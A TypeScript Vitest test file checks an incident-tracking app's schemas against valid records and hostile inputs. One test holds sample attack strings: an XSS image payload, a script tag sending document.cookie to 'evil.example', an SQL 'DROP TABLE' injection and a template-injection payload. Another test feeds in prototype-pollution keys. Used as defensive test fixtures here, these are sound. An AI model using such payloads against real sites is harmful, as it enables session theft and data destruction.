// Tests for incident.ts (with author.ts and limits.ts): the incident schema against valid and hostile shapes.
import { describe, expect, it } from 'vitest';
import { authorSchema, SYSTEM_AUTHOR } from '../../../../shared/domain/author';
import { FIELD_LABELS, incidentSchema, pathSchema, SYNCED_FIELDS, syncedFieldsSchema } from '../../../../shared/domain/incident';
import { LIMITS } from '../../../../shared/domain/limits';
import { newId } from '../../../../shared/domain/ids';
import { stamp } from './fixtures';

const HLC = stamp(Date.UTC(2026, 10, 26, 14, 30));

function validIncident(): Record<string, unknown> {
  return {
    id: '0190f5c2-7a1b-7c3d-8e4f-a1b2c3d4e5f6',
    number: 'K7QM-0042',
    title: 'Generator B failed to start',
    description: 'Weekly test run aborted after 3 s.',
    category: ['Facility', 'Generator & UPS'],
    site: ['Main campus', 'Block A', 'Basement'],
    impact: 2,
    urgency: 1,
    major: false,
    status: 'new',
    holdReason: null,
    assignee: null,
    team: null,
    reporter: 'Night porter',
    occurredAt: { utc: '2026-11-26T14:00:00Z', offsetMinutes: 60 },
    detectedAt: null,
    reportedAt: { utc: '2026-11-26T14:30:00.000Z', offsetMinutes: 60 },
    resolutionCode: null,
    resolutionNotes: null,
    cancelReason: null,
    duplicateOf: null,
    tags: ['generator'],
    priority: 2,
    createdAt: '2026-11-26T14:30:00.000Z',
    updatedAt: '2026-11-26T14:30:00.000Z',
    createdBy: { name: 'Ana Field', position: 'Facility Unit Leader' },
    originDeviceId: 'device-test-01',
    stamps: Object.fromEntries(SYNCED_FIELDS.map((f) => [f, HLC])),
  };
}

function issuesFor(patch: Record<string, unknown>): { path: string; message: string }[] {
  const result = incidentSchema.safeParse({ ...validIncident(), ...patch });
  return result.success ? [] : result.error.issues.map((i) => ({ path: i.path.join('.'), message: i.message }));
}

describe('incidentSchema: valid incidents', () => {
  it('parses a complete incident unchanged', () => {
    expect(incidentSchema.parse(validIncident())).toEqual(validIncident());
  });

  it('accepts every status, both nullable times filled, and a P5', () => {
    for (const status of ['new', 'assigned', 'in_progress', 'on_hold', 'resolved', 'closed', 'cancelled']) {
      expect(issuesFor({ status })).toEqual([]);
    }
    expect(issuesFor({ detectedAt: { utc: '2026-11-26T14:10:00Z', offsetMinutes: -300 }, duplicateOf: newId(), priority: 5 })).toEqual([]);
  });

  it('keeps HTML and script text as plain data, verbatim', () => {
    const hostile = {
      title: '<img src=x onerror=alert(1)>',
      description: '<script>fetch("https://evil.example/"+document.cookie)</script>\u0000\u202e',
      reporter: '"; DROP TABLE incidents; --',
      tags: ['<b>x</b>', '{{constructor.constructor("alert(1)")()}}'],
    };
    const parsed = incidentSchema.parse({ ...validIncident(), ...hostile });
    expect(parsed).toMatchObject(hostile);
  });

  it('trims the title', () => {
    expect(incidentSchema.parse({ ...validIncident(), title: '  Lift stuck  ' }).title).toBe('Lift stuck');
  });
});

describe('incidentSchema: hostile shapes', () => {
  it.each([
    ['title', 42],
    ['title', null],
    ['description', ['a']],
    ['category', 'Facility/HVAC'],
    ['impact', 0],
    ['impact', 4],
    ['impact', '1'],
    ['urgency', 1.5],
    ['major', 'true'],
    ['status', 'deleted'],
    ['holdReason', 12],
    ['occurredAt', '2026-11-26T14:00:00Z'],
    ['reportedAt', null],
    ['duplicateOf', 'not-a-uuid'],
    ['duplicateOf', '9b2c3f1e-8d4a-4f6b-9c2d-1e3f5a7b9c0d'],
    ['tags', [1, 2]],
    ['priority', 0],
    ['priority', 6],
    ['id', 'abc'],
    ['id', '0190F5C2-7A1B-7C3D-8E4F-A1B2C3D4E5F6'],
    ['number', 'K7QM-42'],
    ['createdAt', 'yesterday'],
    ['createdBy', 'Ana'],
    ['originDeviceId', ''],
    ['originDeviceId', 'x'.repeat(101)],
    ['stamps', { title: 'not a stamp' }],
    ['stamps', []],
  ])('refuses %s = %j', (field, value) => {
    const issues = issuesFor({ [field]: value });
    expect(issues.length).toBeGreaterThan(0);
    expect(issues[0]!.path.split('.')[0]).toBe(field);
  });

  it.each(['title', 'status', 'stamps', 'occurredAt', 'createdBy'])('refuses a missing %s', (field) => {
    const incident = validIncident();
    delete incident[field];
    expect(incidentSchema.safeParse(incident).success).toBe(false);
  });

  it('refuses non-objects', () => {
    for (const value of [null, undefined, 'incident', 42, []]) expect(incidentSchema.safeParse(value).success).toBe(false);
  });

  it('limits the title to 200 characters with a clear message', () => {
    expect(issuesFor({ title: 'x'.repeat(LIMITS.title) })).toEqual([]);
    expect(issuesFor({ title: 'x'.repeat(201) })).toEqual([{ path: 'title', message: 'Titles are limited to 200 characters' }]);
    expect(issuesFor({ title: '   ' })).toEqual([{ path: 'title', message: 'Enter a title' }]);
  });

  it('refuses a 1 MB description with a clear message', () => {
    expect(issuesFor({ description: 'x'.repeat(1024 * 1024) })).toEqual([
      { path: 'description', message: 'Descriptions are limited to 20,000 characters' },
    ]);
    expect(issuesFor({ description: 'x'.repeat(LIMITS.description) })).toEqual([]);
  });

  it('bounds paths and tags', () => {
    // Plain words naming the limit and what to do (zod's defaults read "Too big: expected array to have <=8 items").
    expect(issuesFor({ site: Array.from({ length: LIMITS.pathDepth + 1 }, (_, i) => `L${i}`) })).toEqual([
      { path: 'site', message: 'At most 8 levels deep; remove some' },
    ]);
    expect(issuesFor({ site: ['x'.repeat(LIMITS.pathSegment + 1)] })).toEqual([{ path: 'site.0', message: 'Each level is limited to 120 characters; shorten it' }]);
    expect(issuesFor({ category: ['Facility', '  '] })).toEqual([{ path: 'category.1', message: 'A level between two "/" is empty; remove the extra "/"' }]);
    expect(issuesFor({ tags: Array.from({ length: LIMITS.tags + 1 }, (_, i) => `t${i}`) }).length).toBe(1);
    expect(issuesFor({ tags: ['x'.repeat(61)] }).length).toBe(1);
    expect(issuesFor({ resolutionNotes: 'x'.repeat(LIMITS.description + 1) }).length).toBe(1);
    expect(issuesFor({ assignee: 'x'.repeat(LIMITS.shortText + 1) }).length).toBe(1);
  });

  it('refuses stamps for fields that are not synced (bounded, no free-form keys)', () => {
    expect(issuesFor({ stamps: { title: HLC, priority: HLC } })).toEqual([{ path: 'stamps', message: 'Stamps may only name synced fields' }]);
    expect(issuesFor({ stamps: { title: `${HLC}${'x'.repeat(200)}` } })[0]?.path).toBe('stamps.title');
  });

  it('does not let prototype-pollution keys leak into the result or into Object.prototype', () => {
    const json = JSON.stringify(validIncident()).replace(
      /^\{/,
      '{"__proto__":{"polluted":true,"isAdmin":true},"constructor":{"prototype":{"polluted":true}},',
    );
    const withStamps = json.replace('"stamps":{', '"stamps":{"__proto__":{"polluted":true},');
    const withAuthor = withStamps.replace('"createdBy":{', '"createdBy":{"__proto__":{"polluted":true},');
    const hostile: unknown = JSON.parse(withAuthor);
    const parsed = incidentSchema.parse(hostile) as Record<string, unknown>;
    expect(Object.getPrototypeOf(parsed)).toBe(Object.prototype);
    expect(Object.getPrototypeOf(parsed.stamps)).toBe(Object.prototype);
    expect(Object.getPrototypeOf(parsed.createdBy)).toBe(Object.prototype);
    expect('polluted' in parsed || 'isAdmin' in parsed).toBe(false);
    expect(Object.hasOwn(parsed, 'constructor')).toBe(false);
    expect('polluted' in (parsed.stamps as object) || 'polluted' in (parsed.createdBy as object)).toBe(false);
    expect(Object.keys(parsed.stamps as object).sort()).toEqual([...SYNCED_FIELDS].sort());
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('strips unknown keys', () => {
    const parsed = incidentSchema.parse({ ...validIncident(), extra: 'x', eval: 'alert(1)' });
    expect(parsed).not.toHaveProperty('extra');
    expect(parsed).not.toHaveProperty('eval');
  });
});

describe('synced fields', () => {
  it('lists the 28 synced fields, without priority (each replica derives it)', () => {
    expect(SYNCED_FIELDS).toHaveLength(28);
    expect(SYNCED_FIELDS).not.toContain('priority');
    expect(SYNCED_FIELDS).toEqual(Object.keys(syncedFieldsSchema.shape));
  });

  it('has a label for every synced field', () => {
    expect(Object.keys(FIELD_LABELS).sort()).toEqual([...SYNCED_FIELDS].sort());
    for (const label of Object.values(FIELD_LABELS)) expect(label.length).toBeGreaterThan(0);
  });

  it('pathSchema trims segments', () => {
    expect(pathSchema.parse([' Facility ', 'HVAC'])).toEqual(['Facility', 'HVAC']);
  });
});

describe('authorSchema', () => {
  it('accepts a name with an optional position, trimmed', () => {
    expect(authorSchema.parse({ name: ' Ana ', position: ' Safety Officer ' })).toEqual({ name: 'Ana', position: 'Safety Officer' });
    expect(authorSchema.parse({ name: 'Ana' })).toEqual({ name: 'Ana' });
    expect(authorSchema.parse(SYSTEM_AUTHOR)).toEqual(SYSTEM_AUTHOR);
  });

  it('refuses blank, overlong or wrongly typed names with messages', () => {
    expect(authorSchema.safeParse({ name: '  ' }).error?.issues[0]?.message).toBe('Enter your name');
    expect(authorSchema.safeParse({ name: 'x'.repeat(121) }).error?.issues[0]?.message).toBe('Names are limited to 120 characters');
    expect(authorSchema.safeParse({ name: 7 }).success).toBe(false);
    expect(authorSchema.safeParse({ name: 'Ana', position: 'x'.repeat(121) }).success).toBe(false);
    expect(authorSchema.safeParse({ name: 'Ana', position: null }).success).toBe(false);
  });
});
